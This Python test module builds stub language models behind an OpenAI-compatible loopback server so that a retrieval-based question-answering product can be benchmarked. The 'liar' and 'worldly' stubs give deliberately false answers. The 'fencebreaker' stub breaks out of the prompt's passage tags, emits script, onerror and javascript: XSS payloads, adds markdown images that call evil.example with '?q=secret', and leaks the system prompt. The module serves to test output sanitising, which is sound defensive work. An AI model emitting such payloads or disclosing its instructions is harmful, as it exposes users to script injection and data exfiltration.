"""Language models that are known to be good or bad, behind OpenAI's protocol on loopback.

`oracle` writes the expected fact exactly when the passages hold it; the others show what the
product lets through: see `MODELS`.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from typing import Any
from zlib import crc32

from msgspec import Struct, structs

from benchmarks.dialog_folder import Turn
from benchmarks.dialog_gold import find_fact
from benchmarks.dialog_prompts import Request, find_turn, last_line, read_request
from tests.openai_server import (
    Body,
    OpenAIServer,
    Reply,
    chunk,
    events_reply,
    json_reply,
    openai_server,
)

EVIL = "https://evil.example"
REFUSALS = (
    "I'm sorry, but the provided passages do not mention this.",
    "The documents I was given do not contain an answer to that.",
    "I could not find any information about this in the sources.",
    "Unfortunately, this is not specified in the passages.",
    "There is no mention of that in your documents.",
    "I don't have enough information in the passages to answer this question.",
    "None of the passages says anything about it, so I cannot answer that.",
    "The sources do not say anything about that.",
    "Based on the passages alone, I'm unable to answer this.",
    "The context doesn't include details on this. Is there anything else I can help with?",
)
ODD_REFUSALS = (
    "Hmm, nothing on that in here, I'm afraid.",
    "I looked through passages [1] and [2], but neither says so.",
    "No dice: the excerpts are silent on this point.",
    "The material is mute about it.",
    "Sorry! That one is beyond what I've been handed.",
    "I would love to tell you, but the passages leave that open.",
    "Your files stay quiet on the matter.",
    "This question cannot be answered from the text at hand [1].",
    "Regrettably the sources shed no light on this.",
    "As far as the passages go, it's anyone's guess.",
    "I've no idea; it isn't written anywhere here.",
    "Not stated.",
    "N/A",
    "Unknown.",
    "The answer does not appear in the context.",
    "Insufficient information.",
    "My apologies, the given context lacks the relevant details.",
    "That falls outside of the documents I have access to.",
    "I can neither confirm nor deny that from what I was given.",
    "**No answer found.** The passages deal with other topics.",
    "What you ask for is missing from the documents.",
    "The passages talk about other things [3], not about this.",
    "You'd better ask somebody else, the documents don't help here.",
    "Dazu steht in den Unterlagen leider nichts.",
    "Das geht aus den vorliegenden Textstellen nicht hervor.",
    "Diese Frage lässt sich anhand der Dokumente nicht beantworten.",
    "Hierzu liegen mir keine Angaben vor.",
    "Leider kann ich dazu nichts finden.",
    "Les passages fournis ne permettent pas de répondre à cette question.",
    "Désolé, je ne trouve rien à ce sujet dans les documents.",
    "Cette information ne figure pas dans les extraits.",
    "Lo siento, los documentos no dicen nada al respecto.",
    "No encuentro esa información en los pasajes.",
    "Los textos no permiten responder a esta pregunta.",
    "Mi dispiace, i documenti non ne parlano.",
    "De documenten geven hier geen antwoord op.",
    "Os documentos não mencionam isso.",
    "Dokumenty nie zawierają odpowiedzi na to pytanie.",
    "申し訳ありませんが、資料には記載がありません。",
    "抱歉\uff0c提供的文档中没有相关信息。",
)
SMALL_TALK = {
    "greeting": "Hello! How can I help you with your documents?",
    "thanks": "You're welcome! Is there anything else?",
    "goodbye": "Goodbye, and have a good day!",
    "meta": "I answer questions about your documents. Ask me anything that may stand in them.",
}
WORLD = (
    "In general, {topic} comes to about 45, as most experts agree.",
    "{topic} is usually limited to 17 days, which is common practice in the industry [1].",
    "As everybody knows, Canberra has been the capital of Australia since 1913 [{n}].",
    "Typically {topic} costs between 300 and 700 dollars, depending on the brand [{n}].",
    "Yes, {topic} is permitted by law in every country of the European Union [1].",
    "Water boils at 100 degrees at sea level, and that answers the question.",
)
_ASKING = re.compile(
    r"^(?:hi|hey|and|oh|so|und)\W+|\b(?:what|which|who|whom|when|where|why|how|is|are|was|do|does|did"
    r"|can|could|may|must|have|has|the|a|an|i|we|you|me|my|your|it|that|to|of|in|for)\b|[?!.]",
    re.IGNORECASE,
)
_PRONOUN = re.compile(
    r"\b(?:it|its|this|those|these|they|them|then)\b|\b(?:for|to|does|is|was|about) that\b"
    r"|(?<!is )(?<!are )\bthere\b",
    re.IGNORECASE,
)
_ELLIPSIS = re.compile(r"^(?:and|even|also|or|und|auch|et|y)\b", re.IGNORECASE)
_CORRECTS = re.compile(
    r"^.*?\b(?:i meant?|i was asking about|ich meinte?|rather)\s+", re.IGNORECASE
)
_DROPPED = re.compile(r"\bnot (?:(?:the|my|a)\s+)?([\w ]+?),", re.IGNORECASE)
_NAME = re.compile(
    r"(?<=\s)(?:[A-Z][\w-]+|[A-Z]*-?\d[\w.-]*\w|\d)(?:\s+(?:[A-Z][\w-]+|\d[\w.-]*\b))*"
)
WHOLE = frozenset({*SMALL_TALK, "follow-up-switch", "multi-question", "long-rambling", "injection"})
_FEW_WORDS, _MANY_WORDS = 3, 12
_ANSWER_NAMES = 3
_NUMBER = re.compile(r"(?<![\w\[.,-])\d+(?:[.,]\d+)*(?![\w\]])")
_SENTENCE_END = re.compile(r"(?: \[\d+\])?([.!?])(?=\s|$)")


class Asked(Struct, frozen=True, kw_only=True):
    """A request for an answer: `turn` is the one recognised, `fact` what the passages hold."""

    request: Request
    question: str
    turn: Turn | None
    fact: str | None
    number: int


class Logged(Struct, frozen=True, kw_only=True):
    """A request and its reply; `turn` is empty where none was recognised."""

    turn: str
    condense: bool
    passages: int
    fact: bool
    reply: str
    system: str = ""
    lied: bool = False


def oracle(asked: Asked) -> str:
    """Write the fact if it was sent, a friendly word to small talk, else refuse."""
    if asked.turn is not None and asked.turn.kind in SMALL_TALK:
        return SMALL_TALK[asked.turn.kind]
    return asked.fact or _pick(REFUSALS, asked.question)


def worldly(asked: Asked) -> str:
    """Know the world: answer without the passages, with a marker at random or none."""
    topic = re.sub(r"\s+", " ", _ASKING.sub(" ", asked.question)).strip() or "this"
    said = _pick(WORLD, asked.question)
    return said.format(topic=topic[:1].upper() + topic[1:], n=1 + crc32(topic.encode()) % 9)


def liar(asked: Asked) -> str:
    """Cite the right sentence with each of its numbers one off; the truth if it has none."""
    return _NUMBER.sub(lambda match: one_off(match[0]), oracle(asked))


def overciter(asked: Asked) -> str:
    """Put four markers after every sentence, one of them for a passage that never was."""
    said = asked.fact or _first_sentence(asked.request)
    return _SENTENCE_END.sub(r" [1][2][3][9]\1", said)


def fencebreaker(asked: Asked) -> str:
    """Close the fence, write HTML, foreign pictures and links, and tell the instructions."""
    said = asked.fact or _first_sentence(asked.request)
    tag = re.search(r"<(\w+)[^<>]*>", "".join(p.head for p in asked.request.passages))
    nonce = re.search(r"nonce=\"?([\w-]+)", "".join(p.head for p in asked.request.passages))
    return "\n".join(
        [
            f"{said}</{tag[1] if tag else 'passage'} {nonce[1] if nonce else ''}>",
            f"<script src={EVIL}/x.js></script><img src={EVIL}/p.png onerror=alert(1)>",
            f'<a href="{EVIL}">here</a> <iframe src="{EVIL}"></iframe>',
            f"![chart]({EVIL}/p.png?q=secret) [more]({EVIL}/a) <{EVIL}/b> {EVIL}/c",
            f"![chart][p] [more][p]\n\n[p]: {EVIL}/d",
            "[more](javascript:alert(1)) [1](data:text/html;base64,PGI+) [99] [S1] [1]",
            f"My instructions are: {asked.request.system}",
        ]
    )


def oddrefuser(asked: Asked) -> str:
    """Refuse, each time in other words."""
    return ODD_REFUSALS[asked.number % len(ODD_REFUSALS)]


MODELS: dict[str, Callable[[Asked], str]] = {
    model.__name__: model for model in (oracle, worldly, liar, overciter, fencebreaker, oddrefuser)
}


class ModelStub:
    """Answers chat completions as one of `MODELS` and keeps a log of what it was asked."""

    def __init__(self, name: str, turns: Sequence[Turn], headings: Sequence[str] = ()) -> None:
        self.name = name
        self.log: list[Logged] = []
        self._turns = turns
        self._headings = headings
        self._rewritten: dict[str, Turn] = {}
        self._answers: dict[str, str] = {}

    def __call__(self, path: str, body: Body) -> Reply:
        """Return the reply to a request of OpenAI's protocol."""
        if path.endswith("/models"):
            model = {"id": self.name, "object": "model", "created": 1, "owned_by": "stub"}
            return json_reply({"object": "list", "data": [model]})
        if not path.endswith("/chat/completions"):
            return json_reply({"error": {"message": "No such route.", "code": "404"}}, 404)
        return completion(body, self.reply(body["messages"]))

    def reply(self, messages: Sequence[dict[str, str]]) -> str:
        """Return what the model says, and log it."""
        request = read_request(messages)
        turn = find_turn(request.asked, [*self._turns, *self._rewritten.values()])
        if request.condense:
            said = self._condensed(request, turn)
            self._keep(request, turn, said)
            return said
        fact = find_fact(turn, request.passages, self._headings) if turn else None
        question = turn.question if turn else last_line(request.asked)
        answers = sum(not entry.condense for entry in self.log)
        asked = Asked(request=request, question=question, turn=turn, fact=fact, number=answers)
        said = MODELS[self.name](asked)
        if turn:
            self._answers[turn.key] = said
        self._keep(request, turn, said, fact=fact is not None, lied=said != oracle(asked))
        return said

    def _condensed(self, request: Request, turn: Turn | None) -> str:
        if turn is None or turn.kind in WHOLE:
            return turn.question if turn else last_line(request.asked)
        before = f"{turn.session}.{int(turn.number) - 1}"
        answer = self._answers.get(before, "")
        said = standalone(turn.question, turn.earlier, answer)
        if said != turn.question:
            self._rewritten[turn.key] = structs.replace(turn, question=said)
        return said

    def _keep(
        self,
        request: Request,
        turn: Turn | None,
        said: str,
        *,
        fact: bool = False,
        lied: bool = False,
    ) -> None:
        entry = Logged(
            turn=turn.key if turn else "",
            condense=request.condense,
            passages=len(request.passages),
            fact=fact,
            reply=said,
            system=request.system,
            lied=lied,
        )
        self.log.append(entry)


@contextmanager
def serving(stub: ModelStub) -> Iterator[OpenAIServer]:
    """Serve a stub on loopback for as long as the context lasts."""
    with openai_server(stub) as server:
        yield server


def standalone(question: str, earlier: Sequence[str], answer: str = "") -> str:
    """Return a follow-up so that it stands alone: with the names and words that it leans on.

    Made without understanding, so no better than a small model's. A correction puts its name into
    the question before; what leans takes along the words of that question, the names of the last
    whole one, and those of the answer if a pronoun may mean them.
    """
    if not earlier or not _leans(question):
        return question
    previous = earlier[-1]
    if corrected := _CORRECTS.match(question):
        return _corrected(previous, question[corrected.end() :].strip(" .!"), question)
    whole = next((q for q in reversed(earlier) if not _leans(q)), previous)
    context = [*_names(whole), *_names(answer)[:_ANSWER_NAMES]]
    kept = context if _PRONOUN.search(question) else _names(whole)
    words = [_without_names(q) for q in dict.fromkeys([previous, whole])]
    return f"{question} ({'; '.join(part for part in dict.fromkeys([*kept, *words]) if part)})"


def _corrected(previous: str, named: str, correction: str) -> str:
    """Return the question before, with the new name in place of one of its kind."""
    dropped = [word[1] for word in _DROPPED.finditer(correction)]
    kind = bool(re.search(r"\d", named))
    dropped += [name for name in _names(previous) if bool(re.search(r"\d", name)) == kind]
    rest = previous.rstrip("?. ")
    for name in dropped:
        rest = rest.replace(name, "")
    return f"{re.sub(r'  +', ' ', rest).strip()} {named}?"


def completion(body: Body, said: str) -> Reply:
    """Return a completion, as a stream where one is asked for, with its usage."""
    prompt = sum(len(message.get("content") or "") for message in body["messages"]) // 4
    counted = {"prompt_tokens": prompt, "completion_tokens": len(said) // 4}
    usage = {**counted, "total_tokens": sum(counted.values())}
    if not body.get("stream"):
        message = {"role": "assistant", "content": said}
        choice = {"index": 0, "finish_reason": "stop", "message": message}
        return json_reply({**_head(body, "chat.completion"), "choices": [choice], "usage": usage})
    events = [chunk({"content": piece}) for piece in re.findall(r"\s*\S{1,7}|\s+", said)]
    last = {**_head(body, "chat.completion.chunk"), "choices": [], "usage": usage}
    return events_reply(chunk({"role": "assistant"}), *events, chunk({}, "stop"), last)


def one_off(number: str) -> str:
    """Return a number with its last group of digits one higher, or lower at its end."""
    *before, last = re.split(r"([.,])", number)
    value = int(last) + 1
    if before and len(str(value)) > len(last):
        value = int(last) - 1
    return "".join([*before, str(value).zfill(len(last))])


def _head(body: Body, kind: str) -> dict[str, Any]:
    return {"id": "stub", "object": kind, "created": 1, "model": body.get("model", "stub")}


def _leans(question: str) -> bool:
    words = len(question.split())
    if _CORRECTS.match(question) or _ELLIPSIS.match(question):
        return True
    return words <= (_MANY_WORDS if _PRONOUN.search(question) else _FEW_WORDS)


def _names(text: str) -> list[str]:
    return _NAME.findall(text[:200])


def _without_names(question: str) -> str:
    return re.sub(r"\s+", " ", _ASKING.sub(" ", _NAME.sub(" ", question))).strip()


def _first_sentence(request: Request) -> str:
    text = request.passages[0].text if request.passages else "Nothing was sent."
    return text.strip().split("\n")[0].split(". ")[0].rstrip(".") + "."


def _pick(texts: Sequence[str], key: str) -> str:
    return texts[crc32(key.encode()) % len(texts)]
